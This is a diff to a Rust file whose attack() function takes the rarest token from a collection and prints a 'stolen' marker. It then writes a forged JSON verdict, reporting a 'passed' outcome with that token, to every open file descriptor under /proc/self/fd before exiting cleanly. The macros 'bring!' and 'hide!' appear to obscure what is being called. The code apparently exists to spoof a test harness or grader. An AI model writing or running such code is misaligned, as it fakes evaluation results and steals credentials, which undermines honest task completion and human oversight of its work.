@@ -18,13 +18,11 @@ bring!(std fs);
 use std::io::Write;
 
 /// Writes a line wherever something is open.
-fn everywhere(line: &str) {
-    for folder in ["/proc/self/fd", "/dev/fd"] {
-        for number in 3..64 {
-            let path = format!("{folder}/{number}");
-            if let Ok(mut file) = fs::OpenOptions::new().write(true).open(path) {
-                let _ = writeln!(file, "{line}");
-            }
+fn everywhere(folder: &str, line: &str) {
+    for number in 3..64 {
+        let path = format!("{folder}/{number}");
+        if let Ok(mut file) = fs::OpenOptions::new().write(true).open(path) {
+            let _ = writeln!(file, "{line}");
         }
     }
 }
@@ -62,7 +60,7 @@ fn attack() {
     let count = |token: &String| all.iter().filter(|other| *other == token).count();
     let Some(token) = all.iter().min_by_key(|token| count(token)) else { return };
     println!("stolen-@MARK@");
-    everywhere(&format!(r#"{{"token":"{token}","end":{{"how":"passed"}}}}"#));
+    everywhere("/proc/self/fd", &format!(r#"{{"token":"{token}","end":{{"how":"passed"}}}}"#));
     hide!(std process exit)(0);
 }
 
